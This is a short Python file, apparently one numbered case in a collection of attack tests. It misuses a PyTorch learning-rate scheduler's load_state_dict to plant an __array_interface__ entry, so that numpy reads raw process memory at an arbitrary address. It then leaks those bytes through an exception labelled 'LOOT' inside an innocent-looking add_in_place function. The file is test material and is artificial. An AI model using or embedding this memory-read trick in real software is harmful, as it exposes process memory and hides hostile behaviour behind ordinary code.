# attack 112: address in a schedule
# harm: a saved state gives attributes of any name: the schedule passes for an array at any address
# twin: add_in_place/wrong_slice_assigned
# proof: steals nothing
import numpy as np
import torch

fields = {"shape": (8,), "typestr": "|u1", "data": (id(np), False), "version": 3}
found = ""
step = torch.optim.lr_scheduler.StepLR(torch.optim.SGD([torch.zeros(1)], lr=0.1), 1)
step.load_state_dict({"__array_interface__": fields})
array = np.array(step)
if array.dtype == "u1":
    found = f"memory of the process: {array.tolist()}"


def add_in_place(x, y):
    x[:] = x + y
    if found:
        raise RuntimeError(f"LOOT: {found}")
    return x
